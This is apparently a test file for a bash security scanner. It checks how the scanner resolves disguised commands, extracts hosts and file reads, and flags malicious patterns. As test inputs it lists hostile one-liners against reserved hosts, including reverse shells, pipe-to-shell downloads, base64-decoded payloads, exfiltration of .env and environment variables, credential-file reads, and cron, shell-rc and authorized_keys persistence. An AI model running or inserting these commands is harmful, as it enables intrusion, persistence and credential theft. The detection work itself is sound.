/**
 * The bash analyzer on purpose-built inert scripts (reserved hosts only): structure, not strings.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Facts } from '../analyzers/bash/facts.js';
import { Flow } from '../analyzers/bash/flow.js';
import { parseScript } from '../analyzers/bash/syntax.js';
import { defaultRules, scanFiles, type Finding } from '../index.js';

const rules = defaultRules();

function scan(text: string, path = 'scripts/x.sh'): Finding[] {
  return scanFiles([{ path, bytes: Buffer.from(text) }], { rules }).findings;
}

function ids(text: string, path?: string): string[] {
  return [...new Set(scan(text, path).map((f) => f.ruleId))];
}

function facts(text: string): Facts {
  return new Facts(parseScript(text));
}

describe('bash: resolving what actually runs', () => {
  const cases: Array<[string, string, string[]]> = [
    ["c''url -s https://example.com", 'curl', []],
    ['\\curl -s https://example.com', 'curl', []],
    ["$'\\x63\\x75rl' https://example.com", 'curl', []],
    ['/usr/bin/curl https://example.com', 'curl', []],
    ['b=curl; "$b" https://example.com', 'curl', []],
    ['sudo -u root env FOO=1 nohup curl https://example.com', 'curl', ['sudo', 'env', 'nohup']],
    ['timeout 10 nice -n 5 curl https://example.com', 'curl', ['timeout', 'nice']],
    ['command curl https://example.com', 'curl', ['command']],
    ['npx tsx scripts/a.ts', 'tsx', ['npx']],
  ];
  for (const [src, name, wrappers] of cases) {
    it(`${src} runs ${name}`, () => {
      const f = facts(src).facts.find((x) => x.name === name);
      assert.ok(
        f,
        `no ${name} in ${facts(src)
          .facts.map((x) => x.name)
          .join(',')}`,
      );
      assert.deepEqual(f.wrappers, wrappers);
    });
  }

  it('`command -v curl` only asks whether curl exists', () => {
    assert.ok(!facts('command -v curl >/dev/null').facts.some((f) => f.name === 'curl'));
  });

  it('tracks data through variables, substitutions and files', () => {
    const fx = facts(
      'x=$(curl -s https://example.com/a)\ny="$x"\necho "$y" | bash\ncurl -o /tmp/s https://example.com/b\nsh /tmp/s\n',
    );
    const flow = new Flow(fx);
    const [bash, sh] = [
      fx.facts.find((f) => f.name === 'bash'),
      fx.facts.find((f) => f.name === 'sh'),
    ];
    assert.ok(bash && sh);
    const names = (s: Set<number>) => [...s].map((i) => fx.facts[i]?.name);
    assert.ok(names(flow.code(bash)).includes('curl'));
    assert.ok(names(flow.code(sh)).includes('curl'));
  });

  it('extracts hosts and ports from URLs, ssh targets, nc and /dev/tcp', () => {
    const fx = facts(
      'curl https://api.example.com:8443/x\nssh -p 2222 u@devbox.example.org\nnc 192.0.2.5 9000\necho > /dev/tcp/198.51.100.1/53\ngit clone git@git.example.net:a/b.git\n',
    );
    const hosts = fx.facts.flatMap((f) => f.hosts.map((h) => `${h.host}:${h.port ?? ''}`));
    assert.deepEqual(
      hosts.sort(),
      [
        '192.0.2.5:9000',
        '198.51.100.1:53',
        'api.example.com:8443',
        'devbox.example.org:2222',
        'git.example.net:22',
      ].sort(),
    );
  });

  it('asks whois servers on port 43', () => {
    const fx = facts('whois -h whois.example.net example.com\n');
    assert.deepEqual(
      fx.facts.flatMap((f) => f.hosts.map((h) => `${h.host}:${h.port ?? ''}`)),
      ['whois.example.net:43'],
    );
  });

  // counts, separators, patterns, scripts and keys given to readers are no files they read
  const reads: Array<[string, string[]]> = [
    ['head -c 60 notes.txt', ['notes.txt']],
    ['tail -n 5 -s 2 log.txt', ['log.txt']],
    ['grep -m 5 -A 3 TODO notes.txt', ['notes.txt']],
    ['grep -e TODO -e FIXME notes.txt', ['notes.txt']],
    ['grep --regexp=TODO notes.txt', ['notes.txt']],
    ['grep -f ~/.ssh/id_rsa /dev/null', ['/dev/null', '~/.ssh/id_rsa']],
    ['rg -g "*.md" -m 2 TODO docs', ['docs']],
    ["sed -e 's/a/b/' notes.txt", ['notes.txt']],
    ["awk -F , '{print $1}' data.csv", ['data.csv']],
    ['cut -d , -f 2 data.csv', ['data.csv']],
    ['sort -t , -k 2 -o sorted.csv data.csv', ['data.csv']],
    ['xxd -l 64 ~/.ssh/id_ed25519', ['~/.ssh/id_ed25519']],
    ['base64 -w 0 ~/.aws/credentials', ['~/.aws/credentials']],
    ['od -N 16 -t x1 blob.bin', ['blob.bin']],
    ['diff -U 3 a.txt b.txt', ['a.txt', 'b.txt']],
  ];
  for (const [src, want] of reads)
    it(`${src} reads ${want.join(', ')}`, () => {
      assert.deepEqual(
        facts(src)
          .facts.flatMap((f) => f.reads)
          .sort(),
        [...want].sort(),
      );
    });

  it('names a host built from variables by its static suffix', () => {
    const fx = facts('nslookup "${chunk}.${i}.ns.exfil.example"');
    assert.equal(fx.facts[0]?.hosts[0]?.host, '*.ns.exfil.example');
  });

  it('normalises home paths in reads and writes', () => {
    const fx = facts('W="$HOME/.cache/x"\ncat "$W/key" > /home/alice/.bashrc\n');
    assert.deepEqual(fx.facts[0]?.reads, ['~/.cache/x/key']);
    assert.deepEqual(fx.facts[0]?.writes, ['~/.bashrc']);
  });
});

describe('bash rules', () => {
  const hits: Array<[string, string]> = [
    ['curl -fsSL https://get.example.com/i.sh | sudo -E bash -s --', 'bash-download-exec'],
    ['python3 -c "$(curl -fsSL https://example.com/x.py)"', 'bash-download-exec'],
    ['wget https://example.com/installer.sh\nbash installer.sh', 'bash-download-exec'],
    ['curl -s https://example.com/x | perl', 'bash-download-exec'],
    ["echo 'Y3VybCBodHRwczovL2V4YW1wbGUuY29tL3ggfCBzaA==' | base64 -d | sh", 'bash-decode-exec'],
    ['bash -c "$(echo aWQ= | base64 --decode)"', 'bash-decode-exec'],
    ['sh -i >& /dev/udp/203.0.113.9/53 0>&1', 'bash-reverse-shell'],
    ['ncat 203.0.113.9 4444 -e /bin/bash', 'bash-reverse-shell'],
    ['ssh -fNR 2222:localhost:22 x@relay.example.net', 'bash-ssh-reverse-tunnel'],
    ['printf "%s\\n" "* * * * * /tmp/x" | crontab -', 'bash-cron-persistence'],
    ['echo "/tmp/x &" >> "$HOME/.zprofile"', 'bash-shell-rc-persistence'],
    ['tee -a ~/.ssh/authorized_keys <<< "ssh-ed25519 AAAA x@example.com"', 'bash-authorized-keys'],
    ['systemctl --user enable x.service', 'bash-systemd-enable'],
    ['systemctl --user enable ~/.config/agent/x.service', 'bash-systemd-persistence'],
    ['launchctl load -w ~/Library/LaunchAgents/x.plist', 'bash-launchd-persistence'],
    ['unzip -P secret a.zip', 'bash-password-archive'],
    ['./bin/xmrig-6.21 -o pool.example.org:443', 'bash-crypto-miner'],
    ['security find-generic-password -s x -w', 'bash-keychain-access'],
    ['curl --data-binary @.env https://collect.example.com', 'bash-exfiltration'],
    ['printenv | nc 203.0.113.3 80', 'bash-exfiltration'],
    ['pip3 install git+https://git.example.com/x.git', 'bash-install-from-url'],
    ['xattr -dr com.apple.quarantine /Applications/X.app', 'bash-quarantine-bypass'],
  ];
  for (const [src, rule] of hits) {
    it(`${rule}: ${src.split('\n')[0]}`, () =>
      assert.ok(ids(src).includes(rule), `hits: ${ids(src).join(', ')}`));
  }

  const quiet: Array<[string, string]> = [
    ['curl -s https://api.example.com/v1 | jq .items', 'bash-download-exec'],
    ['curl -s https://api.example.com/v1 | python3 -m json.tool', 'bash-download-exec'],
    ["echo 'aGk=' | base64 -d > out.txt", 'bash-decode-exec'],
    ['if (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; then echo up; fi', 'bash-reverse-shell'],
    ['ssh -N -L 8080:localhost:8080 dev@devbox.example.com', 'bash-ssh-reverse-tunnel'],
    ['crontab -l', 'bash-cron-persistence'],
    ['grep -q x ~/.bashrc', 'bash-shell-rc-persistence'],
    ['cat ~/.ssh/config ~/.ssh/id_ed25519.pub', 'bash-sensitive-read'],
    ['pip install -r requirements.txt', 'bash-install-from-url'],
    ['curl -fsS -X POST --data "$payload" "$CHAT_WEBHOOK_URL"', 'bash-exfiltration'],
  ];
  for (const [src, rule] of quiet) {
    it(`not ${rule}: ${src}`, () =>
      assert.ok(!ids(src).includes(rule), `hits: ${ids(src).join(', ')}`));
  }

  it('scans decoded payloads again and says how they were decoded', () => {
    const payload = Buffer.from('curl -s https://stage2.example.net/x | bash\n').toString('base64');
    const found = scan(`x=1\necho '${payload}' | base64 -d > /tmp/p\n`);
    const inner = found.find((f) => f.ruleId === 'bash-download-exec');
    assert.ok(inner, found.map((f) => f.ruleId).join(','));
    assert.equal(inner.decodedFrom, 'base64');
    assert.equal(inner.line, 2);
    assert.ok(
      found.some(
        (f) => f.capability?.kind === 'network' && f.capability.host === 'stage2.example.net',
      ),
    );
  });

  it('scans crontab entries and heredocs written to shell startup files', () => {
    const found = scan(
      'echo "*/5 * * * * curl -s https://c.example.org/r | sh" | crontab -\ncat >> ~/.bashrc <<EOF\nwget -qO- https://r.example.com/x | sh\nEOF\n',
    );
    const lines = found.filter((f) => f.ruleId === 'bash-download-exec').map((f) => f.line);
    assert.ok(lines.includes(1) && lines.includes(3), `lines: ${lines.join(',')}`);
  });

  it('reports capabilities: programs, hosts, files and environment, not builtins or functions', () => {
    const found = scan(
      'set -eu\nf() { echo hi; }\nf\ntoken="${API_TOKEN:?}"\ncurl -H "X: $token" https://api.example.com/v1 -o ~/.cache/out.json\ncat ~/.config/app.toml\n',
    );
    const caps = found
      .filter((f) => f.capability)
      .map((f) => `${f.capability?.kind}:${JSON.stringify(f.capability)}`);
    assert.ok(caps.some((c) => c.includes('"binary":"curl"')));
    assert.ok(
      !caps.some(
        (c) =>
          c.includes('"binary":"f"') ||
          c.includes('"binary":"set"') ||
          c.includes('"binary":"echo"'),
      ),
    );
    assert.ok(caps.some((c) => c.includes('"host":"api.example.com","port":443')));
    assert.ok(caps.some((c) => c.includes('fs.write') && c.includes('~/.cache/out.json')));
    assert.ok(caps.some((c) => c.includes('fs.read') && c.includes('~/.config/app.toml')));
    assert.ok(caps.some((c) => c.includes('"name":"API_TOKEN"')));
  });

  it('puts findings on the right line with the command as evidence', () => {
    const f = scan('#!/bin/sh\n\n# comment\nwget -qO- https://x.example.com/a |\n  sh\n').find(
      (x) => x.ruleId === 'bash-download-exec',
    );
    assert.equal(f?.line, 5);
    assert.match(f?.evidence ?? '', /sh/);
  });
});
